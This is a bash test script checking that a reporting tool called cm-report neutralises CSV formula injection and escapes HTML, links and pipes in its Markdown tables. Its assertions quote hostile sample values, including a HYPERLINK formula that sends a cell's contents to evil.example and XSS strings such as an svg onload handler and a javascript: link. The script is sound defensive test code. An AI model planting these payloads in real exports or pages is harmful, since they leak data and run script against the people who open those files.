#!/bin/bash
# cm-report's output is safe to open: CSV text cells that a spreadsheet
# would run as formulas are neutralised (OWASP, CSV injection) unless
# --csv-formulas; Markdown tables carry no raw HTML from the data and no
# broken cells.  The fixture holds hostile handles, tags, platforms,
# labels, intents, --by values and texts.
. "$(dirname "$0")/lib.sh"
R=$FIXTURES/report
F="cm-report --now 2026-11-22T10:00:00Z"

# csv_cells FILE: each cell of a CSV file (every table) on its own line,
# as "KIND<tab>CELL" with KIND number or text by the column's header;
# newlines in cells as \n.
csv_cells() {
	python3 - "$1" <<'PY'
import csv, re, sys
num = re.compile(r"^-?[0-9]+(\.[0-9]+)?$")
text = {"value", "label", "intent", "author", "tag", "term", "field",
        "ranking", "statistic", "time", "item", "name", "definition",
        "day", "hour", "week", "source.account", "platform"}
with open(sys.argv[1], newline="") as f:
    head = None
    for row in csv.reader(f):
        if not row:
            head = None
            continue
        if head is None:
            head = row
            for c in row:
                print("text\t" + c.replace("\n", "\\n"))
            continue
        for h, c in zip(head, row):
            kind = "text" if h in text else "number"
            print(kind + "\t" + c.replace("\n", "\\n").replace("\r", "\\r"))
PY
}

$F -f csv --by source.account "$R/formulas.ndjson" > all.csv
$F -f csv --by platform "$R/formulas.ndjson" > byp.csv
csv_cells all.csv > all.cells
csv_cells byp.csv > byp.cells

ok "csv: no text cell starts with = + - @, tab or CR" eval '
	! grep -P "^text\t[=+\-@\t]|^text\t\\\\r" all.cells byp.cells'
ok "csv: formulas from the data are kept, behind a quote" eval '
	contains all.cells "'"'"'=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")" &&
	contains all.cells "'"'"'@sum(1+1)" &&
	contains all.cells "'"'"'-1+1" && contains all.cells "'"'"'=2+5" && contains all.cells "'"'"'=cmd" &&
	contains all.cells "'"'"'@label" && contains all.cells "'"'"'-post" && contains all.cells "'"'"'+search" &&
	contains byp.cells "'"'"'=HYPERLINK("'
ok "csv: a tab or CR at the start of a tag is neutralised too" eval '
	grep -qP "^text\t'"'"'\tsneaky$" all.cells && grep -qP "^text\t'"'"'\\\\rcr$" all.cells'
ok "csv: numbers cm writes stay numbers (-0.2500 sentiment)" eval '
	$F -f csv -s summary "$R/formulas.ndjson" > s.csv &&
	[ "$(sed -n 2p s.csv)" = "$(printf "4,3,1,1,-0.2500,0,0.3333,1800,2,0\r")" ] &&
	! grep -P "^number\t'"'"'" all.cells'
ok "csv: a text cell that starts otherwise is unchanged" eval '
	grep -qP "^text\tacme$" all.cells && grep -qP "^text\tx:@SUM\(A1:A9\)$" byp.cells'
ok "--csv-formulas: cells as they are in the data" eval '
	$F -f csv --csv-formulas --by source.account "$R/formulas.ndjson" > raw.csv &&
	csv_cells raw.csv > raw.cells &&
	grep -qP "^text\t=HYPERLINK\(" raw.cells && grep -qP "^text\t=2\+5$" raw.cells &&
	grep -qP "^text\t\tsneaky$" raw.cells && ! grep -qP "^text\t'"'"'" raw.cells'
ok "--csv-formulas changes nothing but CSV" eval '
	for f in text json markdown html; do
		$F -f $f "$R/formulas.ndjson" > a.$f && $F -f $f --csv-formulas "$R/formulas.ndjson" > b.$f &&
		test_cmp a.$f b.$f || exit 1
	done'
ok "--csv-formulas with --partial is a usage error" eval '
	cm-report -p --csv-formulas "$R/formulas.ndjson" > o 2> err; [ $? -eq 2 ] && contains err "--csv-formulas" && lines o 0'
ok "csv: a merged report is neutralised the same way" eval '
	cm-report -p --by source.account "$R/formulas.ndjson" | $F -m -f csv > m.csv && test_cmp all.csv m.csv'

# md_check FILE: in every table row the unescaped | count is that of the
# table's header; no unescaped [ or ] (links, images); no < or & that
# could start a tag, comment, autolink or reference.
md_check() {
	python3 - "$1" <<'PY'
import re, sys
bad, want = [], None
for n, line in enumerate(open(sys.argv[1], encoding="utf-8"), 1):
    line = line.rstrip("\n")
    if not line.startswith("|"):
        want = None
        continue
    pipes, i = 0, 0
    while i < len(line):
        c = line[i]
        if c == "\\":
            i += 2
            continue
        if c == "|":
            pipes += 1
        elif c in "[]":
            bad.append("%d: bare %s: %s" % (n, c, line))
        elif c == "<" and not re.match(r"<([0-9 =]|$)", line[i:]):
            bad.append("%d: < opens something: %s" % (n, line))
        elif c == "&" and not re.match(r"&(lt;|amp;|[0-9 =]|$)", line[i:]):
            bad.append("%d: & starts a reference: %s" % (n, line))
        i += 1
    if want is None:
        want = pipes
    elif pipes != want:
        bad.append("%d: %d cells, the header has %d: %s" % (n, pipes - 1, want - 1, line))
for b in bad:
    print(b)
sys.exit(1 if bad else 0)
PY
}

$F -f markdown -n 100 --by source.account "$R/formulas.ndjson" > all.md
ok "markdown: HTML from the data is escaped" eval '
	contains all.md "| &lt;svg onload=alert(1)> |" && contains all.md "| &lt;/td>&lt;td> |" &&
	contains all.md "| &lt;!-- |" && contains all.md "| &lt;http://evil.example/> |" &&
	contains all.md "| &amp;lt;script&amp;gt; |" && lacks all.md "<svg" && lacks all.md "<b>"'
ok "markdown: no link or image from the data" eval '
	contains all.md "| !\\[p\\](http://evil.example/p.png) |" && contains all.md "| \\[x\\](javascript:alert(1)) |"'
ok "markdown: a newline or | in the data stays inside its cell" eval '
	contains all.md "| line break\\|pipe |" && contains all.md "| a\\\\\\|b |"'
ok "markdown: every row has the cells of its header; nothing opens markup" md_check all.md
ok "markdown: the < and >= of the time bins stay readable" eval '
	$F -f markdown -s response_distribution "$R/formulas.ndjson" > d.md && contains d.md "| <15m |" && contains d.md "| >=3d |"'

done_testing
